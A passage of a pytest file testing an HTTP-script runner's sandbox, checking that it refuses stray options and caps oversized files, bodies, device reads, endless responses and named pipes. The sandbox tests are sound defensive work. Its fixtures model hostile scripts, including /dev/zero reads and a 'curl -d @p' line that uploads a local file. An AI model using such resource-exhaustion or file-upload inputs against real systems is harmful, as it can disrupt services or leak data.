    [
        ("--sandbox-output out", "--sandbox-output works only with --sandbox"),
        ("--allow-env X", "--allow-env works only with --sandbox"),
        ("--allow-host x", "--allow-host works only with --sandbox"),
        ("--sandbox --allow-host http://x/", "'http://x/' is not a host"),
        ("--sandbox --allow-host x:99999", "'x:99999' is not a host"),
    ],
)
def test_an_option_of_the_sandbox_that_means_nothing_is_refused(attack, server, words, told) -> None:
    code, said = attack({"a.http": "GET BASE/"}, f"evil/a.http {words}")

    assert told in said
    assert (code, server.requests) == (2, [])


@pytest.mark.parametrize("name", ["a.http", "b.http", ".env", "http-client.env.json"])
def test_a_huge_file_is_not_read(attack, server, tmp_path, name) -> None:
    files = {"a.http": "import b.http\n### a\nGET BASE/", "b.http": "", ".env": "", "http-client.env.json": ""}
    place(tmp_path / "evil", {name: ""})
    os.truncate(tmp_path / "evil" / name, 3_000_000_000)
    del files[name]
    code, said = attack(files)

    assert "is larger than 16 MB, the most that is read in a sandbox" in said
    assert (code, server.requests) == (2, [])


def test_many_large_files_are_not_read(attack, server, tmp_path) -> None:
    place(tmp_path / "evil", {"b.http": "", "c.http": ""})
    for name in ("b.http", "c.http"):
        (tmp_path / "evil" / name).write_text("# " + "x" * 9_000_000)
    code, said = attack({"a.http": "import b.http\nimport c.http\n### a\nGET BASE/"})

    assert "evil/c.http makes the imported files larger than 16 MB" in said
    assert (code, server.requests) == (2, [])


def test_of_a_folder_only_so_much_is_read(attack, tmp_path) -> None:
    place(tmp_path / "evil", {f"{name}.http": "" for name in "abcdef"})
    for name in "abcdef":
        (tmp_path / "evil" / f"{name}.http").write_text("# " + "x" * 15_000_000)
    code, said = attack({}, "evil --sandbox")

    assert "evil/f.http is not read: with it, the scripts of this run would have more than 64 MB" in said
    assert code == 2


def test_a_huge_body_is_not_sent(attack, server, tmp_path) -> None:
    place(tmp_path / "evil", {"b": ""})
    os.truncate(tmp_path / "evil/b", 3_000_000_000)
    code, said = attack({"a.http": POST + "< b"})

    assert "is larger than 64 MB, the most that is read in a sandbox" in said
    assert (code, server.requests) == (2, [])


def test_a_script_that_is_a_device_is_refused(attack, tmp_path) -> None:
    code, said = attack({}, "/dev/zero --sandbox")

    assert "/dev/zero is a device, not a file" in said
    assert code == 2


def test_a_script_is_read_to_its_limit(attack, tmp_path) -> None:
    with (tmp_path / "big.http").open("wb") as file:
        file.truncate(1_000_000_000)

    code, said = attack({}, f"{tmp_path}/big.http --sandbox")

    assert "big.http is larger than 16 MB" in said
    assert code == 2


def test_a_response_without_an_end_is_stopped(attack, endless) -> None:
    code, said = attack({"a.http": f"GET {endless}/"}, "evil/a.http --sandbox --max-body 100k")

    assert "Stopped reading the body at 0.1 MB" in said
    assert code == 3


@pytest.fixture
def endless() -> Iterator[str]:
    """The URL of a server whose responses never end."""

    def serve(connection: socket.socket) -> None:
        connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        while True:
            connection.sendall(b"x" * 65536)

    with Server(serve) as server:
        yield server.url


@pytest.mark.parametrize(
    "script",
    [POST + "< p", POST + "<@ p", POST + "<@ /dev/zero", "curl -d @p BASE/", "GET BASE/\n\n> {%\nimport './p.js';\n%}"],
)
@pytest.mark.parametrize("words", ["check evil", "check evil --secrets"])
def test_a_check_waits_for_no_pipe(tmp_path, monkeypatch, capfd, script, words) -> None:
    monkeypatch.chdir(tmp_path)
    place(tmp_path / "evil", {"a.http": script.replace("BASE", "http://127.0.0.1:1"), "p": Pipe(), "p.js": Pipe()})

    assert dispatch(words.split()) in (0, 2)
